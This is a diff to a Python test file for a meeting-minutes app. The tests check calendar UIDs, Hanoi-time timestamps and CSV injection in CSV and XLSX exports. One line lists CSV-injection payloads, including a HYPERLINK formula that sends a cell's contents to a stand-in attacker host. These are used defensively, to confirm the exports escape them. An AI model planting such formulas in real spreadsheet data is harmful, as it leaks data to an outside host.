@@ -6,8 +6,10 @@ from __future__ import annotations
 
 import csv
 import io
+import zipfile
 from datetime import date, datetime, timedelta
 from typing import Any
+from zoneinfo import ZoneInfo
 
 import icalendar
 import openpyxl
@@ -18,6 +20,7 @@ from tests.server.minutes.minutes_env import Env
 pytestmark = pytest.mark.asyncio(loop_scope="module")
 CONF = "giao-ban-t12"
 LATER = "giao-ban-t1"
+HANOI = ZoneInfo("Asia/Ho_Chi_Minh")
 ACTIONS = (("nv-1", "Rà soát hộ nghèo, cận nghèo cuối năm", ("P-AN",), 5),
            ("nv-2", "Báo cáo giải ngân vốn đầu tư công", ("P-BINH", "X-CHAU"), 12),
            ("nv-3", "Tổng kết phong trào thi đua “Dân vận khéo”", ("P-AN", "X-DUNG"), 30),
@@ -104,7 +107,7 @@ async def test_ics_has_a_task_per_due_date(env: Env) -> None:
     status, headers, body = await env.get("/actions.ics", role="secretary", params={"conference": CONF})
     assert status == 200 and headers["Content-Type"] == "text/calendar; charset=utf-8"
     cal = icalendar.Calendar.from_ical(body)
-    todos = {str(t["uid"]).split("@")[0]: t for t in cal.walk("VTODO")}
+    todos = {str(t["uid"]).split("@")[0].removesuffix(".task"): t for t in cal.walk("VTODO")}
     assert set(todos) == {f"{CONF}.nv-1", f"{CONF}.nv-2", f"{CONF}.nv-3", f"{CONF}.nv-4"}
     rows = {r["action_id"]: r for r in await dashboard(env, conference=CONF)}
     for action_id, todo in todos.items():
@@ -117,9 +120,45 @@ async def test_ics_has_a_task_per_due_date(env: Env) -> None:
     _, _, body = await env.get("/actions.ics", role="secretary", params={"conference": CONF, "as": "event"})
     events = list(icalendar.Calendar.from_ical(body).walk("VEVENT"))
     assert len(events) == 4
+    # the event copy and the task are two calendar objects: one UID each, never shared
+    assert {str(t["uid"]) for t in todos.values()}.isdisjoint(str(e["uid"]) for e in events)
+    assert {str(e["uid"]).split("@")[0] for e in events} == {f"{CONF}.nv-{n}.due" for n in range(1, 5)}
     for ev in events:
         start, end = ev.decoded("dtstart"), ev.decoded("dtend")
         assert type(start) is date and end - start == timedelta(days=1)   # all day, on the due date
+
+
+HOSTILE = ('=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")', "+84 24 3825 3536", "-1+1", "@SUM(1+1)")
+
+
+async def test_no_cell_becomes_a_formula(env: Env) -> None:
+    """OWASP CSV injection: a site's progress text "=HYPERLINK(...)" (and +, -, @) stays text
+    in the CSV (behind an apostrophe) and in the XLSX (a text cell, no formula)."""
+    for n, text in enumerate(HOSTILE):
+        await env.as_site(CONF, "P-AN", "post_progress", action_id="nv-1", text=text, key=f"tieu-{n}")
+        _, _, body = await env.get("/actions.csv", role="secretary", params={"conference": CONF})
+        nv1 = csv_rows(body)[0]
+        assert nv1["Tiến độ gần nhất"] == "'" + text, text
+        _, _, xlsx = await env.get("/actions.xlsx", role="secretary", params={"conference": CONF})
+        ws = openpyxl.load_workbook(io.BytesIO(xlsx)).active
+        header = [c.value for c in ws[1]]
+        cell = ws.cell(row=2, column=header.index("Tiến độ gần nhất") + 1)
+        assert cell.value == text and cell.data_type == "s", (text, cell.data_type)
+        with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
+            assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")
+    assert csv_rows(body)[0]["Nhiệm vụ"] == "Rà soát hộ nghèo, cận nghèo cuối năm"   # plain text untouched
+
+
+async def test_progress_times_are_hanoi_times(env: Env) -> None:
+    rows = {r["action_id"]: r for r in await dashboard(env, conference=CONF)}
+    at = datetime.fromisoformat(rows["nv-2"]["updates"][-1]["at"]).astimezone(HANOI)
+    _, _, body = await env.get("/actions.csv", role="secretary", params={"conference": CONF})
+    assert csv_rows(body)[1]["Cập nhật tiến độ lúc"] == at.isoformat() and at.isoformat().endswith("+07:00")
+    _, _, xlsx = await env.get("/actions.xlsx", role="secretary", params={"conference": CONF})
+    ws = openpyxl.load_workbook(io.BytesIO(xlsx)).active
+    header = [c.value for c in ws[1]]
+    shown = ws.cell(row=3, column=header.index("Cập nhật tiến độ lúc") + 1).value
+    assert shown == at.replace(tzinfo=None, microsecond=shown.microsecond)   # the wall clock in Hà Nội, not UTC
 
 
 async def test_a_conference_as_an_invite(env: Env) -> None:
